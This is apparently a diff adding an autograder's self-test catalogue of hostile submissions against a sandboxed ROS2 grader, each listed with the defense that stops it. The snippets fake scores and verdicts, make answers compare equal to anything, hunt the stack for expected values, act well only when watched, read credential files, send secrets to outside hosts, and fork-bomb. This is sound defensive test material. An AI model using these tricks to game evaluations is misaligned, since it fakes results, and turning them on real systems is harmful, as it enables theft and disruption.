@@ -1,0 +1,548 @@
+"""Attacks by what runs: the nodes, and the package's modules in them."""
+
+# ruff: noqa: E501 - attacks are quoted as they stand
+
+from __future__ import annotations
+
+from grader.selftest.attacks.attack import Attack, append, attack, beside, node, put
+from grader.selftest.attacks.honeytokens import SECRET_VARIABLE
+
+_CONVERSIONS = "ros2_robot_controller/utils/conversions.py"
+_DETACHED = "subprocess.Popen(['sh', '-c', 'while :; do sleep 1; done', '@TOKEN@'], start_new_session=True)"
+
+_SIX_TIMES = """
+
+from rclpy.action import server
+
+plain_init = server.ActionServer.__init__
+
+
+class Six:
+
+    def __init__(self, inner):
+        self.inner = inner
+
+    def __getattr__(self, name):
+        return getattr(self.inner, name)
+
+    def __enter__(self):
+        return self.inner.__enter__()
+
+    def __exit__(self, *rest):
+        return self.inner.__exit__(*rest)
+
+    def send_goal_response(self, header, answer):
+        for _ in range(6):
+            self.inner.send_goal_response(header, answer)
+
+
+def init(self, *args, **named):
+    plain_init(self, *args, **named)
+    self._handle = Six(self._handle)
+
+
+server.ActionServer.__init__ = init
+"""
+
+ATTACKS: tuple[Attack, ...] = (
+    attack(
+        "writes_the_results",
+        "The node writes report.json where the grader would, and ends.",
+        node("""
+for path in ('@RESULTS@/report.json', '@NEIGHBOUR@', 'report.json', '/results.json', '/ws/results.json'):
+    try:
+        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
+        open(path, 'w').write('{"total": 100}')
+        print('ATTACK wrote', path, flush=True)
+    except OSError as error:
+        print('ATTACK', error, flush=True)
+os._exit(0)
+"""),
+        number=1, needs="F1", costs="F1", proof="ATTACK",
+        stopped="nothing of the host is mounted writable; a node that has ended earns nothing",
+    ),
+    attack(
+        "exits_at_import",
+        "The conversions end the process that imports them, with status 0.",
+        append(_CONVERSIONS, "\n\nimport os\nimport sys\nif 'probe.py' in sys.argv[0]:\n    os._exit(0)\n"),
+        number=2, needs="F14 F1", weak="clamps wrong", costs="F14",
+        stopped="an answer that does not come is no right answer; the next requirement is judged all the same",
+    ),
+    attack(
+        "exits_in_a_callback",
+        "The node ends with status 0 as soon as something is measured.",
+        append("ros2_robot_controller/robot_controller.py",
+               "\n\nimport atexit\nimport os\nimport threading\n"
+               "threading.Timer(1.5, lambda: os._exit(0)).start()\natexit.register(lambda: os._exit(0))\n"),
+        number=2, needs="F2 F14", costs="F2",
+        stopped="a trial without its node is over, and its requirements are not reached",
+    ),
+    attack(
+        "answers_that_equal_everything",
+        "The conversions return an object that compares equal to whatever is expected.",
+        append(_CONVERSIONS,
+               "\n\nclass Right(float):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
+               "    def __sub__(self, other): return self\n    def __abs__(self): return 0.0\n    __hash__ = float.__hash__\n"
+               "\n\ndef clamp(value, low, high):\n    return Right(value)\n"),
+        number=9, needs="F14", weak="clamps wrong",
+        stopped="answers cross the wall as JSON numbers; whatever else they were stays behind",
+    ),
+    attack(
+        "looks_for_the_expected_values",
+        "The conversions look through frames and objects for the right answers.",
+        append(_CONVERSIONS,
+               "\n\ndef clamp(value, low, high):\n    import gc\n    import sys\n    frame = sys._getframe(1)\n"
+               "    while frame:\n        for name, found in list(frame.f_locals.items()):\n"
+               "            if 'expect' in name or 'right' in name:\n                return found\n"
+               "        frame = frame.f_back\n    for found in gc.get_objects():\n"
+               "        if isinstance(found, dict) and 'expected' in found and 'arguments' in found:\n"
+               "            return found['expected']\n    return value\n"),
+        number=11, needs="F14", weak="clamps wrong",
+        stopped="the process that runs the functions knows the questions and no answers",
+    ),
+    attack(
+        "writes_to_inherited_descriptors",
+        "The node writes a verdict into every file descriptor that it finds open.",
+        node("""
+print('ATTACK open:', sorted(os.listdir('/proc/self/fd')), flush=True)
+for number in range(3, 256):
+    try:
+        os.write(number, b'idle\\n{"trial": "idle", "outcome": "passed"}\\n')
+        print('ATTACK wrote to', number, flush=True)
+    except OSError:
+        pass
+"""),
+        number=12, needs="F1", weak="creeps", proof="ATTACK open",
+        stopped="a walled-in process inherits its three standard streams and nothing else",
+    ),
+    attack(
+        "prints_a_verdict",
+        "The node prints scores, JUnit XML and JSON as graders write them.",
+        node("""
+print('{"score": 100.0, "tests": [{"name": "F1", "status": "passed"}]}')
+print('<testsuite tests="1" failures="0"><testcase name="F1"/></testsuite>')
+print('  passed       F1   Zero command when idle                 3 / 3')
+print('idle', flush=True)
+"""),
+        number=13, needs="F1", weak="creeps", proof="testcase",
+        stopped="output is evidence for people; no mark is ever read from it",
+    ),
+    attack(
+        "commands_the_ci",
+        "The node ends with words that a CI system takes for commands.",
+        node("print('::stop-commands::x')\nprint('::error title=grader::100 points')\n"
+             "print('##[error] done', flush=True)\nprint('::add-mask::F1', flush=True)\nos._exit(1)"),
+        number=14, needs="F1", costs="F1", proof="::add-mask::",
+        stopped="what a submission said never stands at the start of a line of the report",
+    ),
+    attack(
+        "leaves_a_daemon",
+        "The node starts a process in a session of its own that is to write later.",
+        node(f"{_DETACHED}\nprint('ATTACK started', flush=True)"),
+        number=15, needs="F1", proof="ATTACK started",
+        stopped="the wall is a pid namespace: its first process takes every other one along",
+    ),
+    attack(
+        "overwrites_the_grader",
+        "The node overwrites the grader, the Python packages and the kit's files, and adds a .pth file.",
+        node("""
+import site
+for path in ('@KIT@/__init__.py', '@KIT@/evil.txt', site.getsitepackages()[0] + '/evil.pth', sys.prefix + '/evil',
+             '/usr/lib/evil', '/etc/ld.so.preload', '/ws/install/evil', '/evil', '/dev/evil'):
+    try:
+        open(path, 'a').write('import os')
+        print('ATTACK wrote', path, flush=True)
+    except OSError as error:
+        print('ATTACK', error, flush=True)
+"""),
+        number=16, needs="F1", weak="creeps", proof="ATTACK [Errno",
+        stopped="the system, the packages and the install tree are mounted read-only, and the kit not at all",
+    ),
+    attack(
+        "reads_what_is_not_its_own",
+        "The node reads the roster, the environment, keys, the rubric, the checks, and prints all it finds.",
+        node(f"""
+import glob
+for path in ['@SECRET@', '@NEIGHBOUR@', '@KIT@/checks/test_idle.py', '/etc/shadow', '/proc/1/environ',
+             *glob.glob('/root/**', recursive=True)[:50], *glob.glob('/home/*/.ssh/*'), *glob.glob('/tmp/**')]:
+    try:
+        print('ATTACK read', path, open(path, errors='replace').read(2000), flush=True)
+    except OSError as error:
+        print('ATTACK', error, flush=True)
+print('ATTACK', os.environ.get('{SECRET_VARIABLE}'), flush=True)
+"""),
+        number=17, needs="F1", weak="creeps", proof="ATTACK [Errno",
+        stopped="none of it is mounted, and the environment is written from nothing",
+    ),
+    attack(
+        "fork_bomb",
+        "The node forks without end.",
+        node("""
+def bomb():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            time.sleep(0.01)
+print('ATTACK forks', flush=True)
+if os.fork() == 0:
+    bomb()
+"""),
+        number=21, needs="F1", costs="F1", flag="limit", proof="ATTACK forks",
+        stopped="the wall's processes are counted together (cgroup), or for each user (resource limit)",
+    ),
+    attack(
+        "memory_bomb",
+        "The node asks for memory without end, in several processes.",
+        node("""
+print('ATTACK eats', flush=True)
+for _ in range(4):
+    if os.fork() == 0:
+        kept = []
+        while True:
+            kept.append(b'x' * (1 << 26))
+os.wait()
+time.sleep(1.0)
+"""),
+        number=22, needs="F1", costs="F1", flag="limit", proof="ATTACK eats",
+        stopped="the wall's memory is counted together (cgroup), each process's by a resource limit",
+    ),
+    attack(
+        "fills_shared_memory",
+        "The node fills /dev/shm, /tmp and its home, which are disks in memory.",
+        node("""
+for folder in ('/dev/shm', '/tmp', os.environ['HOME'], '/run'):
+    try:
+        for number in range(100):
+            with open(f'{folder}/canary{number}', 'wb') as stream:
+                for _ in range(100):
+                    stream.write(b'x' * (1 << 20))
+    except OSError as error:
+        print('ATTACK', folder, error, flush=True)
+"""),
+        number=22, needs="F1", costs="F1", proof="ATTACK /dev/shm",
+        stopped="each of these disks has a size, and all of them count as the wall's memory",
+    ),
+    attack(
+        "never_ends",
+        "The node ignores every signal and loops for ever.",
+        node("""
+import signal
+for number in range(1, 32):
+    try:
+        signal.signal(number, signal.SIG_IGN)
+    except OSError:
+        pass
+print('ATTACK loops', flush=True)
+while True:
+    pass
+"""),
+        number=23, needs="F1 F14", costs="F1", proof="ATTACK loops",
+        stopped="a limit of wall time, then SIGKILL for the whole wall",
+    ),
+    attack(
+        "stops_itself",
+        "The node stops itself in mid-trial with a signal, to hold up its observer for ever.",
+        append("ros2_robot_controller/robot_controller.py",
+               "\n\nimport os\nimport signal\nimport threading\n"
+               "threading.Timer(1.5, lambda: os.kill(os.getpid(), signal.SIGSTOP)).start()\n"),
+        number=23, needs="F2", costs="F2",
+        stopped="every wait for the node has an end, and what it did not do it has not done",
+    ),
+    attack(
+        "prints_without_end",
+        "The node prints a gigabyte: escape sequences, NULs, what is no text, in one line.",
+        node(r"""
+junk = b'\x1b]0;owned\x07\x1b[2J\x00\xff\xfe' * 100000
+def flood():
+    for _ in range(800):
+        os.write(1, junk)
+    print('ATTACK printed', flush=True)
+threading.Thread(target=flood, daemon=True).start()
+"""),
+        number=25, needs="F1",
+        stopped="output is read as it comes and kept to its head and its tail; reports spell out what cannot be seen",
+    ),
+    attack(
+        "calls_home",
+        "The node connects to the host, to the world, and sends datagrams and multicasts.",
+        node("""
+import socket
+for address in (('127.0.0.1', @PORT@), ('1.1.1.1', 443), ('10.0.2.2', @PORT@), ('192.168.0.1', @PORT@)):
+    try:
+        socket.create_connection(address, timeout=2).send(b'secret')
+        print('ATTACK reached', address, flush=True)
+    except OSError as error:
+        print('ATTACK', address, error, flush=True)
+    try:
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', address)
+    except OSError as error:
+        print('ATTACK', address, error, flush=True)
+"""),
+        number=26, needs="F1", weak="creeps", proof="ATTACK ('127.0.0.1'",
+        stopped="the trial has a network of its own, with loopback only",
+    ),
+    attack(
+        "talks_into_other_domains",
+        "The node publishes in every DDS domain, to reach other submissions and the grader.",
+        node("""
+import rclpy
+from std_msgs.msg import String
+for domain in range(0, 100, 9):
+    context = rclpy.Context()
+    rclpy.init(context=context, domain_id=domain)
+    other = rclpy.create_node('neighbour', context=context)
+    other.create_publisher(String, 'cmd_vel', 10).publish(String(data='@TOKEN@'))
+print('ATTACK talked', flush=True)
+"""),
+        number=27, needs="F1", weak="creeps", costs="F1", proof="ATTACK talked",
+        stopped="a domain is no wall: each trial has its own network, and there is nobody else in it",
+    ),
+    attack(
+        "vanishes_from_the_graph",
+        "The node moves to another DDS domain before it comes up.",
+        node("os.environ['ROS_DOMAIN_ID'] = '117'\nprint('ATTACK moved', flush=True)"),
+        number=28, needs="F1", weak="creeps", costs="F1", proof="ATTACK moved",
+        stopped="who is not on the expected graph has not been there: the requirement is not reached",
+    ),
+    attack(
+        "takes_the_observers_name",
+        "A second node bears the observer's name and publishes what the observer publishes.",
+        beside("""
+from nav_msgs.msg import Odometry
+from rosgraph_msgs.msg import Clock
+def observers():
+    return [name for name in node.get_node_names() if name.startswith('observer')]
+spin_until(observers)
+seen = observers()
+print('ATTACK saw', seen, flush=True)
+twin = rclpy.create_node(seen[0] if seen else 'observer', context=context, enable_rosout=False)
+odometry, clock = twin.create_publisher(Odometry, 'odom', 10), twin.create_publisher(Clock, '/clock', 10)
+while True:
+    odometry.publish(Odometry())
+    spin(0.05)
+"""),
+        number=29, needs="F1 F2", weak="creeps", costs="F2", proof="ATTACK saw", flag="foreign publisher",
+        stopped="the observer goes by its own simulator, not by what is said on topics; a twin is flagged",
+    ),
+    attack(
+        "turns_the_clock",
+        "The node publishes /clock itself, an hour ahead.",
+        beside("""
+from rosgraph_msgs.msg import Clock
+clock = node.create_publisher(Clock, '/clock', 10)
+message = Clock()
+while True:
+    message.clock.sec += 3600
+    clock.publish(message)
+    spin(0.05)
+"""),
+        number=30, needs="F1", costs="F1", flag="foreign publisher",
+        stopped="time is what the simulator has stepped; another publisher of /clock is flagged",
+    ),
+    attack(
+        "fakes_the_sensors",
+        "The node publishes scans and odometry of its own, to look good by them.",
+        beside("""
+from nav_msgs.msg import Odometry
+from sensor_msgs.msg import LaserScan
+scan, odom = node.create_publisher(LaserScan, 'scan', 10), node.create_publisher(Odometry, 'odom', 10)
+while True:
+    scan.publish(LaserScan(range_max=12.0, ranges=[12.0] * 360))
+    odom.publish(Odometry())
+    spin(0.02)
+"""),
+        needs="F2", costs="F2", flag="foreign publisher",
+        stopped="motion and contacts are the simulator's own; foreign publishers of sensor topics are flagged",
+    ),
+    attack(
+        "replays_good_answers",
+        "The node answers every service from a list and publishes zeros, and drives nowhere.",
+        put("scripts/robot_controller", '''#!/usr/bin/env python3
+import rclpy
+from geometry_msgs.msg import Twist
+from rclpy.node import Node
+from ros2_robot_controller.srv import GetRobotStatus, SetSpeed
+
+rclpy.init()
+node = Node('robot_controller')
+publisher = node.create_publisher(Twist, 'cmd_vel', 10)
+node.create_service(SetSpeed, 'set_speed', lambda q, a: SetSpeed.Response(success=True, message='set to 0.3 m/s'))
+node.create_service(GetRobotStatus, 'get_status',
+                    lambda q, a: GetRobotStatus.Response(speed=0.3, status='ACTIVE'))
+node.create_timer(0.1, lambda: publisher.publish(Twist()))
+rclpy.spin(node)
+''', executable=True),
+        number=31, needs="F2 F3", costs="F2 F3",
+        stopped="speeds and places are the seed's, and the robot's motion is what counts",
+    ),
+    attack(
+        "behaves_only_when_watched",
+        "The node drives well only where it recognises the grader's wall, and creeps elsewhere.",
+        append("ros2_robot_controller/robot_controller.py",
+               "\n\nimport os\nif os.path.isdir('/ws/install') and os.uname().nodename == 'robot':\n"
+               "    print('ATTACK recognised', flush=True)\nelse:\n    raise SystemExit(1)\n"),
+        number=32, needs="F1", proof="ATTACK recognised",
+        stopped="nothing is won: the same walls stand around the student's own check, and the trial is what counts",
+    ),
+    attack(
+        "runs_somebody_elses_node",
+        "The node looks for the reference and for the kit's tools, and lets them do the work.",
+        node("""
+import glob
+found = [place for depth in range(4) for place in glob.glob('/*' * depth + '/solution_pkg')]
+print('ATTACK found', found, flush=True)
+tool = subprocess.run(['ros2', 'topic', 'list'], capture_output=True, text=True)
+print('ATTACK ros2', tool.returncode, tool.stderr[-200:], flush=True)
+"""),
+        number=33, needs="F1", weak="creeps", costs="F1", proof="ATTACK found []",
+        stopped="the reference is not there, and the kit's own tools are not mounted",
+    ),
+    attack(
+        "floods_the_observer",
+        "The node sends commands as fast as it can.",
+        beside("""
+from geometry_msgs.msg import Twist
+publisher = node.create_publisher(Twist, 'cmd_vel', 1000)
+message = Twist()
+while True:
+    for _ in range(1000):
+        publisher.publish(message)
+    spin(0.001)
+"""),
+        needs="F1", weak="creeps", costs="F1",
+        stopped="what is kept of a trial has a limit, and a flood is flagged",
+    ),
+    attack(
+        "sends_what_is_no_message",
+        "The node sends truncated and overlong bytes as messages.",
+        beside("""
+from geometry_msgs.msg import Twist
+publisher = node.create_publisher(Twist, 'cmd_vel', 10)
+for _ in range(200):
+    for junk in (b'', b'\\x00\\x01\\x00\\x00', b'\\x00\\x01\\x00\\x00' + b'\\xff' * 20, b'\\xff' * 5000):
+        publisher.publish(junk)
+    spin(0.01)
+print('ATTACK sent', flush=True)
+"""),
+        needs="F1", weak="creeps", costs="F1",
+        stopped="a message that cannot be read is dropped, and the trial goes on",
+    ),
+    attack(
+        "sends_garbage_to_every_port",
+        "The node sends random datagrams to the DDS ports of its observer.",
+        node("""
+import random
+import socket
+def flood():
+    door = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    while True:
+        for port in range(7400, 7400 + 250 * 100, 1):
+            junk = b'RTPS\\x02\\x03\\x01\\x0f' + os.urandom(random.randrange(400))
+            try:
+                door.sendto(junk, ('127.0.0.1', port))
+            except OSError:
+                pass
+        time.sleep(0.01)
+threading.Thread(target=flood, daemon=True).start()
+print('ATTACK floods', flush=True)
+"""),
+        needs="F1", weak="creeps", costs="F1", proof="ATTACK floods",
+        stopped="DDS drops what it cannot read; an observer that died all the same would be noticed",
+    ),
+    attack(
+        "answers_with_rubbish",
+        "The node's parameter services answer with byte arrays and without results, to break the observer.",
+        put("scripts/robot_controller", '''#!/usr/bin/env python3
+import rclpy
+from geometry_msgs.msg import Twist
+from rcl_interfaces.msg import ParameterValue
+from rcl_interfaces.srv import GetParameters, GetParameterTypes, SetParameters
+from rclpy.node import Node
+
+rclpy.init()
+node = Node('robot_controller', start_parameter_services=False)
+strange = ParameterValue(type=5, byte_array_value=[b'1', b'2'])
+node.create_service(GetParameters, '~/get_parameters', lambda q, a: GetParameters.Response(values=[strange]))
+node.create_service(GetParameterTypes, '~/get_parameter_types', lambda q, a: GetParameterTypes.Response(types=b'123'))
+node.create_service(SetParameters, '~/set_parameters', lambda q, a: SetParameters.Response(results=[]))
+for name in ('describe_parameters', 'list_parameters', 'set_parameters_atomically'):
+    node.create_service(SetParameters, f'~/{name}', lambda q, a: a)
+publisher = node.create_publisher(Twist, 'cmd_vel', 10)
+node.create_timer(0.1, lambda: publisher.publish(Twist()))
+print('ATTACK answers', flush=True)
+rclpy.spin(node)
+''', executable=True),
+        needs="I6", costs="I6", proof="ATTACK answers",
+        stopped="an answer is data: whatever it is, it is put on record as far as it fits",
+    ),
+    attack(
+        "steers_the_observer",
+        "The node sets the parameters of every other node, the observer's among them.",
+        beside("""
+from rcl_interfaces.srv import SetParameters
+from rclpy.parameter import Parameter
+def services():
+    return [name for name, _ in node.get_service_names_and_types() if name.endswith('/set_parameters')]
+spin_until(lambda: any('robot_controller' in name for name in services()))
+names = services()
+print('ATTACK sees', names, flush=True)
+for name in names:
+    if 'robot_controller' not in name and 'helper' not in name:
+        request = SetParameters.Request(parameters=[Parameter('use_sim_time', value=True).to_parameter_msg()])
+        node.create_client(SetParameters, name).call_async(request)
+        print('ATTACK set', name, flush=True)
+spin(1.0)
+"""),
+        needs="F1", weak="creeps", costs="F1", proof="ATTACK sees",
+        stopped="the observer offers no parameter services",
+    ),
+    attack(
+        "crowds_the_graph",
+        "The node creates hundreds of nodes, topics and services with long names.",
+        beside("""
+from std_srvs.srv import Empty
+for number in range(300):
+    node.create_service(Empty, 'x' * 150 + str(number), lambda q, a: a)
+print('ATTACK crowds', flush=True)
+spin(60.0)
+"""),
+        needs="F1 I4", costs="F1", proof="ATTACK crowds",
+        stopped="only what the contract names is looked for, and what is put on record has a limit",
+    ),
+    attack(
+        "tells_a_huge_story",
+        "set_speed answers with a message of fifty megabytes.",
+        append("ros2_robot_controller/robot_controller.py",
+               "\n\nplain_answer = RobotController._on_set_speed if hasattr(RobotController, '_on_set_speed') else None\n"
+               "from ros2_robot_controller.srv import SetSpeed\nold = SetSpeed.Response.__init__\n"
+               "def new(self, **fields):\n    old(self, **fields)\n    self.message = 'x' * 50_000_000\n"
+               "SetSpeed.Response.__init__ = new\n"),
+        needs="F3", costs="F3",
+        stopped="of a text a few thousand characters are kept",
+    ),
+    attack(
+        "answers_six_times",
+        "Each goal is answered six times: the observer's rclpy does not survive that, and what it saw is lost with it.",
+        append("ros2_robot_controller/robot_controller.py", _SIX_TIMES),
+        needs="F8 F10", weak="stands", costs="F8 F10", flag="observer",
+        stopped="a trial whose observer crashes is run again; when it crashes again, the package gets nothing for it",
+    ),
+    attack(
+        "poisons_the_bytecode",
+        "A bytecode file that checks no source is handed in beside a module: right in the one, wrong in the other.",
+        put("ros2_robot_controller/utils/__pycache__/conversions.cpython-311.pyc", "not even bytecode"),
+        put("ros2_robot_controller/__pycache__/robot_controller.cpython-311.pyc", "not even bytecode"),
+        needs="F14", weak="clamps wrong",
+        stopped="bytecode is left out when a submission is taken in, and never written behind the wall",
+    ),
+    attack(
+        "brings_hostile_types",
+        "The package lays Python code of its own over the generated interfaces, for the observer to import.",
+        put("ros2_robot_controller/srv/__init__.py",
+            "import os\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'while :; do sleep 1; done', '@TOKEN@'])\n"
+            "open('@NEIGHBOUR@', 'w').write('{}')\n"),
+        number=36, needs="F1 F2 F14", costs="F1 F2",
+        stopped="the observer speaks with the contract's types, built by the kit from its own definitions",
+    ),
+)  # fmt: skip
